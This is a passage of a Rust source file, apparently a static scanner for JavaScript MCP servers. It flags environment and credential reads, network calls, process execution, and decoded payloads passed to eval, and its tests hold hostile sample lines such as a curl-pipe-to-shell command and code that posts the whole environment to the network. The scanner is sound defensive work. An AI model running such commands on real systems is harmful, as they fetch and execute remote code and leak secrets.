                .is_some_and(|p| matches!(p.kind(), "object_pattern" | "identifier"));
        let assigned_to = parent.kind() == "assignment_expression"
            && parent.child_by_field_id(self.f.left) == Some(n);
        if is_object_of_parent || destructured || assigned_to {
            return;
        }
        // `{ ...process.env, X: 1 }` as a child process's `env` hands the environment on, as
        // every spawn does by default; spread anywhere else copies it.
        let child_env = parent.kind() == "spread_element"
            && parent
                .parent()
                .and_then(|obj| obj.parent())
                .is_some_and(|pair| {
                    pair.kind() == "pair"
                        && pair
                            .child_by_field_id(self.f.key)
                            .is_some_and(|k| self.text(k) == "env")
                });
        let copied = (parent.kind() == "spread_element" && !child_env)
            || (parent.kind() == "arguments"
                && parent.parent().is_some_and(|call| {
                    call.child_by_field_id(self.f.function)
                        .and_then(|c| self.qualify(c))
                        .is_some_and(|q| {
                            matches!(
                                q.as_str(),
                                "JSON.stringify"
                                    | "Object.entries"
                                    | "Object.keys"
                                    | "Object.values"
                                    | "Object.assign"
                            )
                        })
                }));
        let f = if copied {
            self.finding(
                "js.env.whole",
                Category::EnvRead,
                Severity::High,
                n,
                "reads the whole environment (every variable, secrets included)".into(),
            )
        } else {
            self.finding(
                "js.env.object",
                Category::EnvRead,
                Severity::Low,
                n,
                "passes the whole environment object on".into(),
            )
        };
        self.findings.push(f);
    }

    /// `const { A, B: b } = process.env`.
    fn classify_env_destructure(&mut self, n: Node) {
        let (Some(name), Some(value)) = (
            n.child_by_field_id(self.f.name),
            n.child_by_field_id(self.f.value),
        ) else {
            return;
        };
        if name.kind() != "object_pattern" || self.qualify(value).as_deref() != Some("process.env")
        {
            return;
        }
        let mut c = name.walk();
        let vars: Vec<String> = name
            .named_children(&mut c)
            .filter_map(|p| match p.kind() {
                "shorthand_property_identifier_pattern" => Some(self.text(p).to_string()),
                "pair_pattern" => p
                    .child_by_field_id(self.f.key)
                    .map(|k| self.text(k).to_string()),
                "object_assignment_pattern" => p
                    .child_by_field_id(self.f.left)
                    .map(|k| self.text(k).to_string()),
                "rest_pattern" => Some("...".to_string()),
                _ => None,
            })
            .collect();
        for var in vars {
            let f = if var == "..." {
                self.finding(
                    "js.env.whole",
                    Category::EnvRead,
                    Severity::High,
                    n,
                    "copies the whole environment (rest pattern)".into(),
                )
            } else {
                self.finding(
                    "js.env.read",
                    Category::EnvRead,
                    Severity::Low,
                    n,
                    format!("reads environment variable {var}"),
                )
                .with("variable", var)
            };
            self.findings.push(f);
        }
    }
}

/// One declaration of a name: the scope it covers and what it holds.
#[derive(Debug, Default)]
struct Slot {
    start: usize,
    end: usize,
    /// Index of the nearest enclosing slot of the same name.
    parent: Option<usize>,
    /// The API it stands for.
    q: Option<String>,
    /// The path or string it holds, where known statically.
    path: Option<String>,
    /// Whether it holds decoded data (`Buffer.from(b, 'base64').toString()`).
    decoded: bool,
}

/// Declarations by name; a use resolves to the innermost declaration whose scope covers it, so
/// a parameter or local named like an imported API shadows it (minified code reuses `e`, `t`…).
#[derive(Debug, Default)]
struct Scopes<'a> {
    by_name: HashMap<&'a str, Vec<Slot>>,
}

impl<'a> Scopes<'a> {
    fn declare(&mut self, name: &'a str, (start, end): (usize, usize)) {
        self.by_name.entry(name).or_default().push(Slot {
            start,
            end,
            ..Slot::default()
        });
    }

    /// Sort each name's slots, merge redeclarations in one scope, link each slot to the one
    /// enclosing it (scopes nest or are disjoint).
    fn finish(&mut self) {
        for slots in self.by_name.values_mut() {
            slots.sort_by(|a, b| a.start.cmp(&b.start).then(b.end.cmp(&a.end)));
            slots.dedup_by(|b, a| a.start == b.start && a.end == b.end);
            let mut open: Vec<usize> = Vec::new();
            for i in 0..slots.len() {
                while open.last().is_some_and(|&j| slots[j].end <= slots[i].start) {
                    open.pop();
                }
                slots[i].parent = open.last().copied();
                open.push(i);
            }
        }
    }

    fn find_index(&self, name: &str, at: usize) -> Option<(&Vec<Slot>, usize)> {
        let slots = self.by_name.get(name)?;
        let mut i = slots.partition_point(|s| s.start <= at).checked_sub(1)?;
        loop {
            if slots[i].end > at {
                return Some((slots, i));
            }
            i = slots[i].parent?;
        }
    }

    fn find(&self, name: &str, at: usize) -> Option<&Slot> {
        self.find_index(name, at).map(|(slots, i)| &slots[i])
    }

    fn find_mut(&mut self, name: &str, at: usize) -> Option<&mut Slot> {
        let (_, i) = self.find_index(name, at)?;
        self.by_name.get_mut(name)?.get_mut(i)
    }
}

/// A surface declared by a call: the surface, its handler ranges, and the constant naming it
/// when that constant lives in another file.
type SurfaceCall = (Surface, Vec<(usize, usize)>, Option<String>);

/// The MCP surface of one file, with what other files may resolve.
struct FoundInFile {
    surface: Vec<Surface>,
    name_refs: Vec<(usize, String)>,
    dispatch: Vec<(String, Vec<usize>)>,
}

/// Upper bound on how deep the static evaluation of a path expression goes.
const MAX_EVAL_DEPTH: u32 = 8;
/// How many calls deep a tool handler is followed through functions of the same file.
const MAX_REACH_DEPTH: u32 = 4;

impl<'a> Analyzer<'a> {
    /// The text of a string literal or template (with `${…}` placeholders kept), for the
    /// endpoint and obfuscation checks. Escapes are decoded the way the engine will.
    fn literal_text(&self, n: Node) -> Option<String> {
        let t = self.text(n);
        let inner = t.get(1..t.len().checked_sub(1)?)?;
        if inner.is_empty() {
            return None;
        }
        Some(unescape(inner))
    }

    /// A path expression reduced to a string: literals, `path.join`/`resolve`, `os.homedir()`
    /// and `$HOME` as `~`, `+` and templates; parts not known statically become `*`.
    fn static_path(&self, n: Node, depth: u32) -> Option<String> {
        if depth > MAX_EVAL_DEPTH {
            return None;
        }
        let part = |x: Node| self.static_path(x, depth + 1).unwrap_or_else(|| "*".into());
        let known = |s: String| (!s.trim_matches(|c| c == '*' || c == '/').is_empty()).then_some(s);
        match n.kind() {
            "string" => self.string_value(n),
            "template_string" => {
                let mut out = String::new();
                let mut c = n.walk();
                for ch in n.named_children(&mut c) {
                    match ch.kind() {
                        "string_fragment" => out.push_str(self.text(ch)),
                        "template_substitution" => match ch.named_child(0) {
                            Some(e) => out.push_str(&part(e)),
                            None => out.push('*'),
                        },
                        _ => {}
                    }
                }
                known(out)
            }
            "identifier" => self
                .scopes
                .find(self.text(n), n.start_byte())
                .and_then(|slot| slot.path.clone()),
            "parenthesized_expression" | "await_expression" => {
                self.static_path(n.named_child(0)?, depth + 1)
            }
            "binary_expression" => {
                let op = n.child_by_field_id(self.f.operator)?;
                if self.text(op) != "+" {
                    return None;
                }
                let l = part(n.child_by_field_id(self.f.left)?);
                let r = part(n.child_by_field_id(self.f.right)?);
                known(format!("{l}{r}"))
            }
            "member_expression" => match self.qualify(n)?.as_str() {
                "process.env.HOME" | "process.env.USERPROFILE" => Some("~".into()),
                _ => None,
            },
            "call_expression" => {
                let q = self.qualify(n.child_by_field_id(self.f.function)?)?;
                match q.as_str() {
                    "os.homedir" => Some("~".into()),
                    "path.join" | "path.resolve" | "path.posix.join" | "path.win32.join"
                    | "path.posix.resolve" | "path.win32.resolve" => {
                        let args = n.child_by_field_id(self.f.arguments)?;
                        let mut c = args.walk();
                        let parts: Vec<String> = args
                            .named_children(&mut c)
                            .filter(|a| a.kind() != "comment")
                            .map(part)
                            .collect();
                        known(parts.join("/"))
                    }
                    _ => None,
                }
            }
            _ => None,
        }
    }

    /// Whether an expression decodes data: `atob`, `Buffer.from(x, 'base64'|'hex')`,
    /// zlib inflation, `String.fromCharCode`, or a name bound to such a value.
    fn decoder_in(&self, n: Node) -> bool {
        if n.kind() == "identifier" {
            return self.is_decoded(n);
        }
        if n.end_byte() - n.start_byte() > 4096 {
            return false;
        }
        let mut found = false;
        let mut budget = 256;
        preorder_while(n, |x| {
            budget -= 1;
            if x.kind() == "identifier" && self.is_decoded(x) {
                found = true;
            } else if x.kind() == "call_expression" {
                if let Some(q) = x
                    .child_by_field_id(self.f.function)
                    .and_then(|c| self.qualify(c))
                {
                    found |= match q.as_str() {
                        "atob"
                        | "String.fromCharCode"
                        | "zlib.inflateSync"
                        | "zlib.gunzipSync"
                        | "zlib.inflateRawSync"
                        | "zlib.unzipSync"
                        | "zlib.brotliDecompressSync" => true,
                        "Buffer.from" => x
                            .child_by_field_id(self.f.arguments)
                            .and_then(|a| a.named_child(1))
                            .and_then(|e| self.string_value(e))
                            .is_some_and(|e| matches!(e.as_str(), "base64" | "base64url" | "hex")),
                        _ => false,
                    };
                }
            }
            !found && budget > 0
        });
        found
    }

    fn is_decoded(&self, id: Node) -> bool {
        self.scopes
            .find(self.text(id), id.start_byte())
            .is_some_and(|slot| slot.decoded)
    }

    /// Decoded data handed to eval, Function, vm or a process: the classic hidden payload.
    fn decode_exec(&mut self, n: Node, args: Option<Node>, api: &str) {
        let Some(args) = args else { return };
        let mut c = args.walk();
        let decoded = args
            .named_children(&mut c)
            .find(|a| a.kind() != "comment" && self.decoder_in(*a));
        if let Some(arg) = decoded {
            let f = self
                .finding(
                    "js.obfuscation.decode-exec",
                    Category::Obfuscation,
                    Severity::Critical,
                    n,
                    format!("decoded data is executed ({api})"),
                )
                .with("api", api)
                .with("argument", clip(self.text(arg)));
            self.findings.push(f);
        }
    }

    /// A read API reaching a credential location.
    fn sensitive_read(&mut self, n: Node, first: Option<Node>, api: &str) {
        let Some(path) = first.and_then(|a| self.static_path(a, 0)) else {
            return;
        };
        let Some(location) = credential_location(&path) else {
            return;
        };
        // A server loading its own `.env` is common; keys and cloud credentials are not.
        let severity = if location == "dotenv secrets" {
            Severity::Medium
        } else {
            Severity::High
        };
        let f = self
            .finding(
                "js.sensitive.read",
                Category::SensitiveRead,
                severity,
                n,
                format!("reads {location}"),
            )
            .with("api", api)
            .with("path", clip(&path))
            .with("location", location);
        self.findings.push(f);
    }

    /// What a name declared in this file stands for (`const config = {…}` → the object).
    fn resolve<'t>(&self, n: Node<'t>) -> Node<'t>
    where
        'a: 't,
    {
        if n.kind() == "identifier" {
            if let Some(&v) = self.decls.get(self.text(n)) {
                return v;
            }
        }
        n
    }

    /// A string, a template's text, or a `+` concatenation of them, escapes decoded.
    fn text_value(&self, n: Node) -> Option<String> {
        match n.kind() {
            "identifier" => {
                let v = self.decls.get(self.text(n))?;
                if v.kind() == "identifier" {
                    return None;
                }
                self.text_value(*v)
            }
            "string" | "template_string" => self.literal_text(n).or(Some(String::new())),
            "binary_expression" => {
                let l = self.text_value(n.child_by_field_id(self.f.left)?)?;
                let r = self.text_value(n.child_by_field_id(self.f.right)?)?;
                Some(l + &r)
            }
            "parenthesized_expression" => self.text_value(n.named_child(0)?),
            _ => None,
        }
    }

    /// The value of `key` in an object literal.
    fn pair<'t>(&self, object: Node<'t>, key: &str) -> Option<Node<'t>> {
        let mut c = object.walk();
        let found = object.named_children(&mut c).find_map(|p| {
            if p.kind() != "pair" {
                return None;
            }
            let k = p.child_by_field_id(self.f.key)?;
            let name = match k.kind() {
                "property_identifier" => self.text(k).to_string(),
                _ => self.string_value(k)?,
            };
            (name == key).then(|| p.child_by_field_id(self.f.value))?
        });
        found
    }

    /// The name a function node is known by in its file.
    fn function_name(&self, f: Node) -> Option<&'a str> {
        if let Some(name) = f.child_by_field_id(self.f.name) {
            return Some(self.text(name));
        }
        let parent = f.parent()?;
        let named = match parent.kind() {
            "variable_declarator" => parent.child_by_field_id(self.f.name)?,
            "pair" => parent.child_by_field_id(self.f.key)?,
            "assignment_expression" => {
                let left = parent.child_by_field_id(self.f.left)?;
                match left.kind() {
                    "member_expression" => left.child_by_field_id(self.f.property)?,
                    _ => left,
                }
            }
            "public_field_definition" | "field_definition" => {
                parent.child_by_field_id(self.f.property)?
            }
            _ => return None,
        };
        matches!(named.kind(), "identifier" | "property_identifier").then(|| self.text(named))
    }

    /// Tools, prompts and resources declared in this file, with the findings their handlers reach.
    fn surface(
        &mut self,
        calls: &[Node],
        funcs: &[Node],
        objects: &[Node],
        branches: &[Node],
    ) -> FoundInFile {
        let mut by_name: HashMap<&str, Vec<(usize, usize)>> = HashMap::new();
        for f in funcs {
            if let Some(name) = self.function_name(*f) {
                by_name
                    .entry(name)
                    .or_default()
                    .push((f.start_byte(), f.end_byte()));
            }
        }
        // Calls by name, in document order: `helper(…)` and `this.helper(…)`.
        let named_calls: Vec<(usize, &str)> = calls
            .iter()
            .filter_map(|c| {
                let callee = c.child_by_field_id(self.f.function)?;
                let name = match callee.kind() {
                    "identifier" => self.text(callee),
                    "member_expression" => {
                        let obj = callee.child_by_field_id(self.f.object)?;
                        if obj.kind() != "this" {
                            return None;
                        }
                        self.text(callee.child_by_field_id(self.f.property)?)
                    }
                    _ => return None,
                };
                by_name.contains_key(name).then_some((c.start_byte(), name))
            })
            .collect();

        let mut found: Vec<(Surface, Vec<(usize, usize)>)> = Vec::new();
        let mut name_refs = Vec::new();
        for &c in calls {
            if let Some((s, ranges, name_ref)) = self.surface_call(c, &by_name) {
                if let Some(r) = name_ref {
                    name_refs.push((found.len(), r));
                }
                found.push((s, ranges));
            }
        }
        // Dispatch branches by the name they test, once (`case "x":`, `if (name === "x")`).
        let mut bodies: HashMap<String, Vec<(usize, usize)>> = HashMap::new();
        for &b in branches {
            let Some(name) = self.branch_name(b) else {
                continue;
            };
            let body = if b.kind() == "if_statement" {
                b.child_by_field_id(self.f.consequence).unwrap_or(b)
            } else {
                b
            };
            bodies
                .entry(name)
                .or_default()
                .push((body.start_byte(), body.end_byte()));
        }
        for &o in objects {
            if let Some(s) = self.surface_object(o, &bodies) {
                if !found
                    .iter()
                    .any(|(f, _)| f.kind == s.0.kind && f.name == s.0.name)
                {
                    found.push(s);
                }
            }
        }

        // Finding offsets, from their positions.
        let mut line_starts = vec![0usize];
        line_starts.extend(
            self.src
                .iter()
                .enumerate()
                .filter(|(_, &b)| b == b'\n')
                .map(|(i, _)| i + 1),
        );
        let mut at: Vec<(usize, usize)> = self
            .findings
            .iter()
            .enumerate()
            .filter_map(|(i, f)| {
                let line = f.line? as usize;
                let col = f.column? as usize;
                Some((line_starts.get(line - 1)? + col - 1, i))
            })
            .collect();
        at.sort_unstable();

        let mut out = Vec::new();
        for (mut s, ranges) in found {
            s.reaches = reach(&ranges, &at, &named_calls, &by_name);
            for &i in &s.reaches {
                if let Some(f) = self.findings.get_mut(i) {
                    f.tool.get_or_insert_with(|| s.name.clone());
                }
            }
            out.push(s);
        }
        // Dispatch branches, for tools declared in other files.
        let mut dispatch = Vec::new();
        for (name, ranges) in bodies {
            let reaches = reach(&ranges, &at, &named_calls, &by_name);
            if !reaches.is_empty() {
                dispatch.push((name, reaches));
            }
        }
        dispatch.sort();
        FoundInFile {
            surface: out,
            name_refs,
            dispatch,
        }
    }

    /// The tool name a `case "x":` or `if (name === "x")` branch dispatches on.
    fn branch_name(&self, b: Node) -> Option<String> {
        match b.kind() {
            "switch_case" => self.string_value(b.child_by_field_id(self.f.value)?),
            _ => {
                let mut n = b.child_by_field_id(self.f.condition)?;
                while n.kind() == "parenthesized_expression" {
                    n = n.named_child(0)?;
                }
                let (l, r) = (
                    n.child_by_field_id(self.f.left)?,
                    n.child_by_field_id(self.f.right)?,
                );
                let lit = self.string_value(r).or_else(|| self.string_value(l))?;
                self.compares_name(n, &lit).then_some(lit)
            }
        }
    }

    fn surface_at(&self, n: Node, kind: SurfaceKind, name: String) -> Surface {
        let p = n.start_position();
        Surface {
            kind,
            name,
            description: None,
            schema: None,
            line: p.row as u32 + 1,
            column: p.column as u32 + 1,
            reaches: Vec::new(),
        }
    }

    /// Handler ranges of an argument: an inline function, or the functions a name refers to.
    fn handler_ranges(
        &self,
        h: Node,
        by_name: &HashMap<&str, Vec<(usize, usize)>>,
    ) -> Option<Vec<(usize, usize)>> {
        match h.kind() {
            "arrow_function" | "function_expression" | "function" => {
                Some(vec![(h.start_byte(), h.end_byte())])
            }
            "identifier" => by_name.get(self.text(h)).cloned(),
            "member_expression" => {
                let prop = h.child_by_field_id(self.f.property)?;
                by_name.get(self.text(prop)).cloned()
            }
            "call_expression" => {
                // `handler.bind(this)` and wrappers such as `withAuth(handler)`.
                let callee = h.child_by_field_id(self.f.function)?;
                if callee.kind() == "member_expression" {
                    if let Some(obj) = callee.child_by_field_id(self.f.object) {
                        if let Some(r) = self.handler_ranges(obj, by_name) {
                            return Some(r);
                        }
                    }
                }
                let args = h.child_by_field_id(self.f.arguments)?;
                let last = args.named_child(args.named_child_count().checked_sub(1)? as u32)?;
                self.handler_ranges(last, by_name)
            }
            _ => None,
        }
    }

    /// `server.tool(…)`, `registerTool`, `prompt`, `registerPrompt`, `resource`,
    /// `registerResource`, and FastMCP-style `addTool({ name, execute })`.
    fn surface_call(
        &self,
        n: Node,
        by_name: &HashMap<&str, Vec<(usize, usize)>>,
    ) -> Option<SurfaceCall> {
        let callee = n.child_by_field_id(self.f.function)?;
        if callee.kind() != "member_expression" {
            return None;
        }
        let method = self.text(callee.child_by_field_id(self.f.property)?);
        let (kind, style) = match method {
            "tool" => (SurfaceKind::Tool, 0),
            "prompt" => (SurfaceKind::Prompt, 0),
            "resource" => (SurfaceKind::Resource, 0),
            "registerTool" => (SurfaceKind::Tool, 1),
            "registerPrompt" => (SurfaceKind::Prompt, 1),
            "registerResource" => (SurfaceKind::Resource, 1),
            "addTool" => (SurfaceKind::Tool, 2),
            "addPrompt" => (SurfaceKind::Prompt, 2),
            "addResource" | "addResourceTemplate" => (SurfaceKind::Resource, 2),
            _ => return None,
        };
        let args_node = n.child_by_field_id(self.f.arguments)?;
        let mut c = args_node.walk();
        let args: Vec<Node> = args_node
            .named_children(&mut c)
            .filter(|a| a.kind() != "comment")
            .collect();
        if style == 0 && !self.sdk_named {
            return None;
        }
        if style == 2 {
            let obj = self.resolve(*args.first()?);
            if obj.kind() != "object" {
                return None;
            }
            let name = self.text_value(self.pair(obj, "name")?)?;
            let handler = self
                .pair(obj, "execute")
                .or_else(|| self.pair(obj, "load"))?;
            let ranges = self.handler_ranges(handler, by_name)?;
            let mut s = self.surface_at(n, kind, name);
            s.description = self
                .pair(obj, "description")
                .and_then(|d| self.text_value(d));
            s.schema = self
                .pair(obj, "parameters")
                .or_else(|| self.pair(obj, "arguments"))
                .map(|p| clip_schema(self.text(p)));
            return Some((s, ranges, None));
        }
        let first = *args.first()?;
        // A name in a constant of another file (`registerTool(QUERY_DOCS_TOOL, …)`) is
        // resolved once every file is read.
        let (name, name_ref) = match self.text_value(first) {
            Some(n) => (n, None),
            // Only constant-shaped names (`QUERY_DOCS_TOOL`): a variable `name` is not one.
            None if first.kind() == "identifier"
                && self
                    .text(first)
                    .bytes()
                    .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_') =>
            {
                (
                    self.text(first).to_string(),
                    Some(self.text(first).to_string()),
                )
            }
            None => return None,
        };
        if name.is_empty() || args.len() < 2 {
            return None;
        }
        let ranges = self.handler_ranges(*args.last()?, by_name)?;
        let mut s = self.surface_at(n, kind, name);
        let middle = &args[1..args.len() - 1];
        if style == 1 {
            // registerX(name, config, handler); registerResource(name, uri, config, handler).
            let config = middle
                .iter()
                .map(|&a| self.resolve(a))
                .rev()
                .find(|a| a.kind() == "object");
            if let Some(config) = config {
                s.description = self
                    .pair(config, "description")
                    .and_then(|d| self.text_value(d));
                s.schema = self
                    .pair(config, "inputSchema")
                    .or_else(|| self.pair(config, "argsSchema"))
                    .map(|p| clip_schema(self.text(self.resolve(p))));
            }
        } else {
            // tool(name, [description], [schema], [annotations], handler);
            // resource(name, uri, [metadata], handler).
            let rest = if kind == SurfaceKind::Resource && !middle.is_empty() {
                &middle[1..]
            } else {
                middle
            };
            for a in rest {
                match a.kind() {
                    "string" | "template_string" | "binary_expression"
                        if s.description.is_none() =>
                    {
                        s.description = self.text_value(*a);
                    }
                    "object" if kind == SurfaceKind::Resource => {
                        s.description = self
                            .pair(*a, "description")
                            .and_then(|d| self.text_value(d));
                    }
                    "object" | "call_expression" | "identifier" if s.schema.is_none() => {
                        s.schema = Some(clip_schema(self.text(*a)));
                    }
                    _ => {}
                }
            }
        }
        Some((s, ranges, name_ref))
    }

    /// A low-level tool definition `{ name: "x", description: "…", inputSchema: {…} }`, its
    /// handler an inline function of the object or the `case "x":` / `if (name === "x")` branch
    /// that dispatches on its name.
    fn surface_object(
        &self,
        o: Node,
        dispatch: &HashMap<String, Vec<(usize, usize)>>,
    ) -> Option<(Surface, Vec<(usize, usize)>)> {
        let schema = self.pair(o, "inputSchema")?;
        let name = self.string_value(self.pair(o, "name")?)?;
        if name.is_empty() {
            return None;
        }
        let mut s = self.surface_at(o, SurfaceKind::Tool, name.clone());
        s.description = self.pair(o, "description").and_then(|d| self.text_value(d));
        s.schema = Some(clip_schema(self.text(schema)));
        let mut ranges = Vec::new();
        for key in ["handler", "execute", "run", "callback", "call"] {
            if let Some(h) = self.pair(o, key) {
                if matches!(h.kind(), "arrow_function" | "function_expression") {
                    ranges.push((h.start_byte(), h.end_byte()));
                }
            }
        }
        if let Some(bodies) = dispatch.get(&name) {
            ranges.extend(bodies);
        }
        Some((s, ranges))
    }

    /// `(name === "x")`, `request.params.name == 'x'`.
    fn compares_name(&self, cond: Node, name: &str) -> bool {
        let mut n = cond;
        while n.kind() == "parenthesized_expression" {
            match n.named_child(0) {
                Some(c) => n = c,
                None => return false,
            }
        }
        if n.kind() != "binary_expression" {
            return false;
        }
        let op = n.child_by_field_id(self.f.operator).map(|o| self.text(o));
        if !matches!(op, Some("===" | "==")) {
            return false;
        }
        let (Some(l), Some(r)) = (
            n.child_by_field_id(self.f.left),
            n.child_by_field_id(self.f.right),
        ) else {
            return false;
        };
        let (lit, other) = if self.string_value(r).is_some() {
            (r, l)
        } else {
            (l, r)
        };
        self.string_value(lit).is_some_and(|v| v == name)
            && self.text(other).to_ascii_lowercase().ends_with("name")
    }
}

/// Finding indices inside `ranges`, following calls to same-file functions by name up to
/// [`MAX_REACH_DEPTH`] deep. `at` is (offset, finding index) sorted; `calls` is sorted by offset.
fn reach(
    ranges: &[(usize, usize)],
    at: &[(usize, usize)],
    calls: &[(usize, &str)],
    by_name: &HashMap<&str, Vec<(usize, usize)>>,
) -> Vec<usize> {
    let mut out = Vec::new();
    let mut seen: HashSet<(usize, usize)> = ranges.iter().copied().collect();
    let mut frontier: Vec<(usize, usize)> = ranges.to_vec();
    for _ in 0..=MAX_REACH_DEPTH {
        let mut next = Vec::new();
        for &(start, end) in &frontier {
            let lo = at.partition_point(|&(o, _)| o < start);
            out.extend(
                at[lo..]
                    .iter()
                    .take_while(|&&(o, _)| o < end)
                    .map(|&(_, i)| i),
            );
            let lo = calls.partition_point(|&(o, _)| o < start);
            for &(_, name) in calls[lo..].iter().take_while(|&&(o, _)| o < end) {
                for &r in by_name.get(name).map(Vec::as_slice).unwrap_or(&[]) {
                    if seen.insert(r) {
                        next.push(r);
                    }
                }
            }
        }
        if next.is_empty() {
            break;
        }
        frontier = next;
    }
    out.sort_unstable();
    out.dedup();
    out
}

/// Pre-order walk of a subtree that stops when `visit` returns false.
fn preorder_while<'t>(root: Node<'t>, mut visit: impl FnMut(Node<'t>) -> bool) {
    let mut cursor = root.walk();
    loop {
        if !visit(cursor.node()) {
            return;
        }
        if cursor.goto_first_child() {
            continue;
        }
        loop {
            if cursor.node() == root {
                return;
            }
            if cursor.goto_next_sibling() {
                break;
            }
            if !cursor.goto_parent() {
                return;
            }
        }
    }
}

/// Decode the escapes of a JavaScript string body (`\n`, `\xNN`, `\uNNNN`, `\u{…}`), so hidden
/// characters written as escapes are seen as the engine will see them.
fn unescape(s: &str) -> String {
    if !s.contains('\\') {
        return s.to_string();
    }
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        let Some(e) = chars.next() else { break };
        let hex = |chars: &mut std::iter::Peekable<std::str::Chars>, n: usize| {
            let h: String = chars.by_ref().take(n).collect();
            u32::from_str_radix(&h, 16).ok().and_then(char::from_u32)
        };
        match e {
            'n' => out.push('\n'),
            't' => out.push('\t'),
            'r' => out.push('\r'),
            '0' => out.push('\0'),
            'x' => out.extend(hex(&mut chars, 2)),
            'u' if chars.peek() == Some(&'{') => {
                chars.next();
                let h: String = chars.by_ref().take_while(|&c| c != '}').collect();
                out.extend(u32::from_str_radix(&h, 16).ok().and_then(char::from_u32));
            }
            'u' => out.extend(hex(&mut chars, 4)),
            '\n' => {}
            other => out.push(other),
        }
    }
    out
}

/// Schemas are kept whole up to a generous bound (they are hashed and shown).
fn clip_schema(s: &str) -> String {
    const MAX: usize = 16 * 1024;
    if s.len() <= MAX {
        return s.to_string();
    }
    let mut end = MAX;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    format!("{}…", &s[..end])
}

fn has_substitution(n: Node) -> bool {
    let mut c = n.walk();
    let found = n
        .named_children(&mut c)
        .any(|ch| ch.kind() == "template_substitution");
    found
}

/// Evidence strings are kept short.
fn clip(s: &str) -> String {
    const MAX: usize = 200;
    if s.len() <= MAX {
        return s.to_string();
    }
    let mut end = MAX;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    format!("{}…", &s[..end])
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules_of(src: &str) -> Vec<String> {
        analyze("t.js", src.as_bytes(), Dialect::JavaScript)
            .findings
            .into_iter()
            .map(|f| f.rule)
            .collect()
    }

    fn one(src: &str) -> Finding {
        let mut f = analyze("t.ts", src.as_bytes(), Dialect::TypeScript).findings;
        assert_eq!(f.len(), 1, "{f:#?}");
        f.remove(0)
    }

    #[test]
    fn network_through_imports_requires_and_aliases() {
        assert_eq!(rules_of("fetch('https://x.io/a')"), ["js.network.fetch"]);
        assert_eq!(rules_of("const f = fetch; f(u)"), ["js.network.fetch"]);
        assert_eq!(rules_of("globalThis.fetch(u)"), ["js.network.fetch"]);
        assert_eq!(
            rules_of("import axios from 'axios'; axios.get(u)"),
            ["js.network.axios"]
        );
        assert_eq!(
            rules_of("const api = require('axios').create({}); api.post(u)"),
            ["js.network.axios"]
        );
        assert_eq!(
            rules_of("import * as https from 'node:https'; https.get(u)"),
            ["js.network.http"]
        );
        assert_eq!(
            rules_of("const { request } = require('https'); request(u)"),
            ["js.network.http"]
        );
        assert_eq!(
            rules_of("import { request as r } from 'undici'; r(u)"),
            ["js.network.fetch"]
        );
        assert_eq!(
            rules_of("import nf from 'node-fetch'; nf(u)"),
            ["js.network.fetch"]
        );
        assert_eq!(
            rules_of("const net = require('net'); net.connect(4444, '45.61.139.22')"),
            ["js.network.socket"]
        );
        assert_eq!(
            rules_of("new WebSocket('wss://x')"),
            ["js.network.websocket"]
        );
        assert_eq!(
            rules_of("const x = new XMLHttpRequest()"),
            ["js.network.xhr"]
        );
        let f = one("await fetch(`https://api.example.com/v1/${path}`)");
        assert_eq!(f.evidence["host"], "api.example.com");
        assert_eq!(f.line, Some(1));
    }

    #[test]
    fn processes_files_and_eval() {
        assert_eq!(
            rules_of("import { exec } from 'child_process'; exec('ls')"),
            ["js.exec.child-process"]
        );
        assert_eq!(
            rules_of("const cp = require('node:child_process'); const { spawn } = cp; spawn('sh')"),
            ["js.exec.child-process"]
        );
        assert_eq!(
            rules_of("import { execa } from 'execa'; await execa('git', ['x'])"),
            ["js.exec.execa"]
        );
        assert_eq!(
            rules_of("import fs from 'fs/promises'; await fs.writeFile(p, d)"),
            ["js.fs.write"]
        );
        assert_eq!(
            rules_of("const fs = require('fs'); fs.promises.rm(p)"),
            ["js.fs.write"]
        );
        assert_eq!(
            rules_of("import { writeFileSync } from 'node:fs'; writeFileSync(p, d)"),
            ["js.fs.write"]
        );
        assert_eq!(rules_of("eval(code)"), ["js.eval.eval"]);
        assert_eq!(rules_of("new Function('a', body)"), ["js.eval.function"]);
        assert_eq!(
            rules_of("const g = Function('return this')()"),
            ["js.eval.function-constant"]
        );
        assert_eq!(
            rules_of("setTimeout('alert(1)', 10)"),
            ["js.eval.string-timer"]
        );
        assert_eq!(rules_of("require(name)"), ["js.eval.dynamic-import"]);
        assert_eq!(
            rules_of("await import(`./x/${p}`)"),
            ["js.eval.dynamic-import"]
        );
        assert_eq!(
            rules_of("const vm = require('vm'); vm.runInNewContext(s)"),
            ["js.eval.vm"]
        );
        let f = one("import { execSync } from 'child_process'; execSync('curl http://x | sh')");
        assert_eq!(f.evidence["command"], "curl http://x | sh");
    }

    #[test]
    fn environment_reads() {
        let f = one("const t = process.env.GITHUB_TOKEN");
        assert_eq!(
            (f.rule.as_str(), f.evidence["variable"].as_str()),
            ("js.env.read", Some("GITHUB_TOKEN"))
        );
        assert_eq!(rules_of("process.env['API_KEY']"), ["js.env.read"]);
        assert_eq!(rules_of("process.env[name]"), ["js.env.computed"]);
        assert_eq!(
            rules_of("const { A, B: b } = process.env"),
            ["js.env.read", "js.env.read"]
        );
        assert_eq!(rules_of("const { ...all } = process.env"), ["js.env.whole"]);
        assert_eq!(
            rules_of("fetch(u, { body: JSON.stringify(process.env) })"),
            ["js.network.fetch", "js.env.whole"]
        );
        assert_eq!(
            rules_of("const copy = { ...process.env }"),
            ["js.env.whole"]
        );
        assert_eq!(rules_of("const e = process.env; e.HOME"), ["js.env.read"]);
        assert_eq!(
            rules_of("spawn(c, a, { env: process.env })"),
            ["js.env.object"]
        );
        assert_eq!(
            rules_of("spawn(c, a, { env: { ...process.env, DEBUG: '1' } })"),
            ["js.env.object"]
        );
    }

    #[test]
    fn look_alikes_are_not_findings() {
        for src in [
            "/ab+c/.exec(s)",
            "const re = /x/; re.exec(s)",
            "model.eval()",
            "client.fetch(u)",
            "this.fetch(u)",
            "JSON.parse(s)",
            "// fetch('https://x') eval(x) exec('rm')",
            "const s = 'eval(x) and fetch(u) and child_process.exec'",
            "function fetch2() {} fetch2()",
            "const cache = new Map(); cache.get(k)",
            "import { exec } from './local-helpers'; exec(x)",
            "db.exec('select 1')",
            "setTimeout(() => run(), 10)",
            "require('fs')",
